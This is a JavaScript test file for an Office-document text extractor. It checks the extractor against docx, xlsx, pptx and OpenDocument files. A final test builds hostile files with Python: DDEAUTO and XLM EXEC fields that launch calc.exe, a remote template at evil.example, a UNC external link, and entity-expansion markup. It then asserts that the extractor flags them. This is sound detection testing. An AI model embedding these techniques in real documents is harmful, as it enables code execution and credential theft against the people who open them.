// Office files made by LibreOffice and openpyxl, and hostile ones made by hand with Python's zipfile.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { folder, walked } from './walked.mjs';

const files = folder();

const text = `<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
<office:meta><dc:title>見本の題</dc:title></office:meta>
<office:body><office:text><text:p>見本 <text:span>太</text:span><text:span>郎</text:span><office:annotation><dc:creator>作者</dc:creator>
<text:p>注釈の文</text:p></office:annotation>様</text:p>
<table:table table:name="表"><table:table-column table:number-columns-repeated="2"/><table:table-row>
<table:table-cell office:value-type="string"><text:p>氏名</text:p></table:table-cell>
<table:table-cell office:value-type="string"><text:p>見本 花子</text:p></table:table-cell></table:table-row></table:table>
<text:p>本文<text:note text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>脚注の文</text:p>
</text:note-body></text:note>続き</text:p></office:text></office:body></office:document>`;

const slides = `<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" office:version="1.3"
 office:mimetype="application/vnd.oasis.opendocument.presentation"><office:body><office:presentation>
<draw:page draw:name="a"><draw:frame svg:width="10cm" svg:height="2cm" svg:x="1cm" svg:y="1cm"><draw:text-box><text:p>一枚目の見本</text:p>
</draw:text-box></draw:frame><presentation:notes><draw:frame svg:width="10cm" svg:height="2cm" svg:x="1cm" svg:y="1cm" presentation:class="notes">
<draw:text-box><text:p>覚え書き</text:p></draw:text-box></draw:frame></presentation:notes></draw:page>
<draw:page draw:name="b"><draw:frame svg:width="10cm" svg:height="2cm" svg:x="1cm" svg:y="1cm"><draw:text-box><text:p>二枚目</text:p>
</draw:text-box></draw:frame></draw:page></office:presentation></office:body></office:document>`;

const workbook = `
import datetime, sys
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
book = Workbook()
sheet = book.active
sheet.title = '一覧'
sheet.append(['氏名', '生年月日', '番号'])
sheet.append(['見本 & 太郎', datetime.date(1981, 8, 29), 123456789012])
sheet['C3'] = 12345678
sheet['C3'].number_format = '000000000000'
sheet['B3'] = datetime.datetime(2026, 1, 2, 12, 30)
sheet['B3'].number_format = '[$-411]ggge"年"m"月"d"日" h:mm'
sheet['E3'] = 0.1 + 0.2
sheet['A3'] = '花子'
sheet['A3'].comment = Comment('コメント本文', '作者')
sheet.oddHeader.center.text = 'ヘッダの文'
hidden = book.create_sheet('隠し')
hidden.sheet_state = 'veryHidden'
hidden['B2'] = '秘密'
book.defined_names.append(DefinedName('範囲', attr_text='"名前の中"'))
book.properties.creator = '作った人'
chart = BarChart()
chart.title = '図の題'
chart.add_data(Reference(sheet, min_col=3, min_row=1, max_row=3), titles_from_data=True)
sheet.add_chart(chart, 'G5')
book.save('made.xlsx')
stream = Workbook(write_only=True)
rows = stream.create_sheet('長い')
for i in range(3000):
    rows.append([i, '見本町若葉%d番' % i, datetime.date(2000, 1, 1) + datetime.timedelta(days=i)])
stream.save('long.xlsx')
`;

const convert = (target, ...names) =>
  files.run('soffice', '--headless', `-env:UserInstallation=file://${files.at('profile')}`, '--convert-to', target, '--outdir', files.at(target), ...names);

before(() => {
  files.write('text.fodt', text);
  files.write('slides.fodp', slides);
  files.python(workbook);
  convert('odt', 'text.fodt');
  convert('docx', 'text.fodt');
  convert('odp', 'slides.fodp');
  convert('pptx', 'slides.fodp');
  convert('ods', 'made.xlsx');
  convert('xlsx', 'made.xlsx', 'long.xlsx');
});

const list = [
  ['氏名', '生年月日', '番号'],
  ['見本 & 太郎', '1981-08-29', '123456789012'],
];

test('a workbook of openpyxl: rows, hidden sheets, comments, headers, names, charts, properties', () => {
  const found = walked(files.at('made.xlsx'));
  assert.deepEqual(found.part('made.xlsx/一覧').rows, [...list, ['花子', '2026-01-02 12:30', '000012345678', '', '0.3']]);
  assert.deepEqual(found.part('made.xlsx/隠し').rows, [['', '秘密']]);
  for (const words of ['コメント本文', 'ヘッダの文', '"名前の中"', '図の題', '作った人']) assert.match(found.text, new RegExp(words));
  assert.deepEqual(found.notes, []);
});

test('the same workbook as LibreOffice writes it, xlsx and ods', () => {
  const excel = walked(files.at('xlsx/made.xlsx'));
  assert.deepEqual(excel.part('一覧').rows.slice(0, 2), list);
  assert.deepEqual(excel.part('一覧').rows[2], ['花子', '2026-01-02 12:30', '000012345678', '', '0.3']);
  assert.deepEqual(excel.codes, []);
  const open = walked(files.at('ods/made.ods'));
  assert.deepEqual(open.part('一覧').rows.slice(0, 2), list);
  assert.deepEqual(open.part('一覧').rows[2].slice(1), ['2026-01-02T12:30:00', '000012345678', '', '0.3']);
  assert.match(open.part('一覧').rows[2][0], /コメント本文[^]*花子/);
  assert.deepEqual(open.part('隠し').rows, [['', '秘密']]);
  assert.match(open.text, /ヘッダの文/);
});

test('thousands of rows, inline and shared strings', () => {
  for (const name of ['long.xlsx', 'xlsx/long.xlsx']) {
    const rows = walked(files.at(name)).part('長い').rows;
    assert.equal(rows.length, 3000);
    assert.deepEqual(rows[0], ['0', '見本町若葉0番', '2000-01-01']);
    assert.deepEqual(rows[2999], ['2999', '見本町若葉2999番', '2008-03-18']);
  }
});

test('a document, docx and odt: paragraphs, tables, footnotes, comments, properties', () => {
  for (const name of ['docx/text.docx', 'odt/text.odt']) {
    const found = walked(files.at(name));
    assert.deepEqual(found.parts.flatMap((part) => part.rows), [['氏名', '見本 花子']], name);
    for (const words of ['見本 太郎様\n', '注釈の文\n', '脚注の文\n', '本文続き\n', '見本の題\n']) assert.ok(found.text.includes(words), `${name} ${words}`);
    assert.deepEqual(found.codes, [], name);
  }
});

test('slides, pptx and odp, in their order with notes', () => {
  for (const name of ['pptx/slides.pptx', 'odp/slides.odp']) {
    const found = walked(files.at(name));
    assert.ok(found.text.indexOf('一枚目の見本') >= 0 && found.text.indexOf('一枚目の見本') < found.text.indexOf('二枚目'), name);
    assert.ok(found.text.includes('覚え書き'), name);
    assert.deepEqual(found.codes, [], name);
  }
  assert.ok(walked(files.at('pptx/slides.pptx')).part('slides.pptx/1').text.includes('一枚目の見本'));
});

const hostile = `
import sys, zipfile
def remade(source, target, change, more={}):
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, 'w', zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, content in more.items():
            new.writestr(name, content)
def dde(name, content):
    code = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return content.replace(b'</w:body>', code.encode() + b'</w:body>') if name == 'word/document.xml' else content
remade('docx/text.docx', 'dde.docx', dde)
link = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
remade('docx/text.docx', 'template.docx', lambda name, content: content, {'word/_rels/settings.xml.rels': link % ('attachedTemplate', 'https://evil.example/x.dotm')})
def typed(part, kind):
    return lambda name, content: content.replace(b'</Types>', ('<Override PartName="/%s" ContentType="%s"/></Types>' % (part, kind)).encode()) if name == '[Content_Types].xml' else content
remade('made.xlsx', 'link.xlsx', typed('xl/externalLinks/externalLink1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml'), {
    'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
    'xl/externalLinks/_rels/externalLink1.xml.rels': link % ('externalLinkPath', 'file:///\\\\\\\\server\\\\share\\\\taro.xlsx')})
remade('made.xlsx', 'macro.xlsm', typed('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml'), {
    'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row></sheetData></xm:macrosheet>'})
remade('ods/made.ods', 'basic.ods', lambda name, content: content, {'Basic/Standard/Module1.xml': '<script:module>Sub Main\\nEnd Sub</script:module>'})
remade('made.xlsx', 'entities.xlsx', lambda name, content: b'<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>' + content if name.startswith('xl/worksheets/sheet1') else content)
content = open('made.xlsx', 'rb').read()
open('cut.xlsx', 'wb').write(content[:len(content) // 2])
with zipfile.ZipFile('made.xlsx') as old, zipfile.ZipFile('lost.xlsx', 'w') as new:
    for name in old.namelist():
        if name != 'xl/worksheets/sheet2.xml': new.writestr(name, old.read(name))
`;

test('what starts or loads something, and what is broken', () => {
  files.python(hostile);
  const noted = (name) => walked(files.at(name)).notes.map((note) => `${note.code} ${note.detail}`);
  assert.deepEqual(noted('dde.docx'), ['dde DDEAUTO']);
  assert.deepEqual(noted('template.docx'), ['remote_template attachedTemplate https evil.example']);
  assert.deepEqual(noted('link.xlsx'), ['external_link externalLinkPath UNC server']);
  assert.deepEqual(noted('macro.xlsm'), ['xlm ', 'dde EXEC']);
  assert.ok(noted('basic.ods').includes('vba OpenDocument Basic'));
  assert.ok(noted('entities.xlsx').includes('broken DOCTYPE'));
  assert.ok(noted('lost.xlsx').includes('broken シート'));
  assert.ok(noted('cut.xlsx').length > 0);
});
